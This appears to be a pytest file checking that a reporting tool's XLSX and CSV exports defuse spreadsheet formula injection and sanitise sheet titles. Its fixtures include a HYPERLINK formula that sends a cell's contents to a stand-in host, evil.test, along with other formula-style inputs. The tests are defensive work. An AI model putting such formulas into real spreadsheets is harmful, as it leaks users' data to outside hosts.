"""Exports never hand a spreadsheet a formula: titles, labels and dimension values that look like
one stay text in XLSX (every sheet, chart data included) and get a leading apostrophe in CSV,
while numbers, negative amounts and dates keep their type."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from reports.builder.exports import to_csv, to_xlsx
from reports.builder.periods import Period
from reports.builder.runner import ReportResult
from tourstack.tables import Column
from reports.builder.spec import parse_spec
from reports.render.safety import csv_text, sheet_title

EVIL_TITLE = '=HYPERLINK("http://evil.test/?leak="&A6,"Open report")'
AGENTS = ['=HYPERLINK("http://evil.test","x")', "+91 cmd", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR",
          "O'Brien Travels"]


def _result(title: str = EVIL_TITLE, chart: str = "bar") -> ReportResult:
    spec = parse_spec({"title": title, "metrics": ["revenue"], "dimensions": ["agent__agent_name"],
                       "chart": {"type": chart}})
    columns = [Column("agent__agent_name", "Agent name", "text", "dimension"),
               Column("revenue", "Revenue (base)", "money", "metric", "revenue")]
    rows = [(name, Decimal("-12.50") if i == 0 else Decimal(100 + i)) for i, name in enumerate(AGENTS)]
    as_of = dt.date(2026, 6, 30)
    return ReportResult(spec, columns, rows, Period(dt.date(2026, 6, 1), as_of), None, as_of, None)


def test_xlsx_holds_no_formulas_and_keeps_the_text():
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(to_xlsx(_result())))
    assert wb.sheetnames == [sheet_title(EVIL_TITLE), "Chart data"]
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    ws = wb.worksheets[0]
    assert ws["A1"].value == EVIL_TITLE and ws["A1"].data_type == "s"
    # openpyxl's own XML writer lets a bare CR be read back as a line feed; with lxml installed it
    # is escaped and comes back as written: either way the text is kept, never a formula
    as_text = [a.replace("\r", "\n") for a in AGENTS]
    read = [ws.cell(row=r, column=1).value for r in range(6, 6 + len(AGENTS))]
    as_text = AGENTS if read == AGENTS else as_text
    assert read == as_text
    assert ws["B6"].value == -12.5 and ws["B6"].data_type == "n"  # amounts stay numbers
    chart_data = wb["Chart data"]
    assert [chart_data.cell(row=r, column=1).value for r in range(2, 2 + len(AGENTS))] == as_text
    assert len(ws._charts) == 1


def test_csv_defuses_formula_text_but_not_numbers():
    rows = list(csv.reader(io.StringIO(to_csv(_result()), newline="")))
    assert rows[0] == ["Agent name", "Revenue (base)"]
    assert [r[0] for r in rows[1:]] == ["'" + a for a in AGENTS[:6]] + ["O'Brien Travels"]
    assert rows[1][1] == "-12.50" and rows[2][1] == "101.00"  # money to its two places, as in every CSV
    assert len(rows) == len(AGENTS) + 1  # a CR or LF inside a value stays inside its quoted cell


@pytest.mark.parametrize("text, expected", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=1", "a=1"), ("", ""), ("Côte d'Ivoire", "Côte d'Ivoire"),
])
def test_csv_text(text, expected):
    assert csv_text(text) == expected


@pytest.mark.parametrize("title, expected", [
    ("'Quoted'", "Quoted"), ("Revenue [EUR]: a/b", "Revenue  EUR   a b"), ("'", "Report"),
    ("x" * 40, "x" * 31),
])
def test_sheet_titles_excel_accepts(title, expected):
    assert sheet_title(title) == expected
